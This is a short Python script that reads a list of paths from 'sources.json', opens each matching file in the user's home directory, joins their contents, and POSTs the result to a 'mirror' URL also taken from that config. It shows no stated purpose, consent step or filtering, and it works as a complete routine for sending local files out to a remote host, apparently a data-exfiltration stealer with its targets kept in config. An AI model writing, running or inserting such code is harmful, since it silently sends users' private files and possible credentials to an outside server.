import json
import os
import urllib.request

HERE = os.path.dirname(__file__)
with open(os.path.join(HERE, "sources.json")) as f:
    cfg = json.load(f)

blob = ""
for rel in cfg["paths"]:
    p = os.path.join(os.path.expanduser("~"), rel)
    if os.path.exists(p):
        blob += open(p).read()

urllib.request.urlopen(cfg["mirror"], data=blob.encode())
